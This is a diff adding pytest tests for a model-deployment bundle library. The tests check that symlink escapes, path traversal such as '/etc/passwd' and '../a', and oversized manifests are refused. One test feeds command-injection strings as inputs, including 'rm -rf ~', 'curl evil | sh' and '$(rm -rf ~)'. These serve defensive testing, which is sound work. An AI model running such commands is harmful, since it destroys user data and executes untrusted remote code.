@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -11,7 +12,9 @@ from litdeploy.bundle import (
     Manifest,
     RunRecord,
     TeacherRecord,
+    read_sidecar,
     sha256_of,
+    sidecar_of,
     write_whole,
 )
 from litdeploy.checkpoint import write_checkpoint
@@ -157,3 +160,60 @@ def test_a_write_that_fails_leaves_what_was_there(tmp_path: Path) -> None:
         fail()
     assert path.read_text() == "whole"
     assert [entry.name for entry in tmp_path.iterdir()] == ["file"]
+
+
+@pytest.mark.parametrize("name", ["profile", "export", "metrics.jsonl", "student.safetensors"])
+def test_a_link_out_of_the_bundle_is_not_followed(bundle: Bundle, tmp_path: Path, name: str) -> None:
+    (tmp_path / "elsewhere").mkdir()
+    (bundle.path / name).unlink(missing_ok=True)
+    (bundle.path / name).symlink_to(tmp_path / "elsewhere")
+    with pytest.raises(BundleError, match="link that leaves the bundle"):
+        bundle.read()
+
+
+def test_a_manifest_far_too_large_is_not_read(bundle: Bundle) -> None:
+    with bundle.manifest_path.open("r+b") as file:
+        file.truncate(2**40)  # sparse
+    with pytest.raises(BundleError, match="larger than"):
+        bundle.read()
+
+
+def artefact(**changes: Any) -> Artefact:
+    values = {"path": "export/a.onnx", "sha256": "0" * 64, "precision": "fp32", "versions": {}, "details": {}}
+    return Artefact.model_validate({**values, **changes})
+
+
+@pytest.mark.parametrize("path", ["../a", "/etc/passwd", "export/../../a", "a\0b"])
+def test_an_artefact_lies_in_its_bundle(bundle: Bundle, path: str) -> None:
+    with pytest.raises(BundleError, match="outside the bundle"):
+        bundle.artefact_path(artefact(path=path))
+
+
+@pytest.mark.parametrize(
+    ("command", "told"),
+    [
+        ("litdeploy export deploy --onnx", "litdeploy export deploy --onnx"),
+        ("litdeploy export; rm -rf ~", None),
+        ("curl evil | sh", None),
+        ("litdeploy export 'unended", None),
+        ("litdeploy export\n\x1b[2J", None),
+        ("litdeploy export $(rm -rf ~)", "litdeploy export '$(rm' -rf '~)'"),
+        (3, None),
+    ],
+)
+def test_only_our_own_command_is_shown_as_what_to_type(command: object, told: str | None) -> None:
+    assert artefact(details={"command": command}).command == told
+
+
+@pytest.mark.parametrize("opset", [None, "18", 10**12, 0])
+def test_an_operator_set_that_is_none_is_refused(opset: object) -> None:
+    with pytest.raises(BundleError, match="operator set"):
+        artefact(details={"opset": opset}).opset()
+
+
+def test_a_sidecar_that_is_a_link_is_not_followed(tmp_path: Path) -> None:
+    (tmp_path / "in").mkdir()
+    (tmp_path / "other.json").write_text(artefact().model_dump_json())
+    sidecar_of(tmp_path / "in" / "a.onnx").symlink_to(tmp_path / "other.json")
+    with pytest.raises(OSError, match="leaves its folder"):
+        read_sidecar(tmp_path / "in" / "a.onnx")
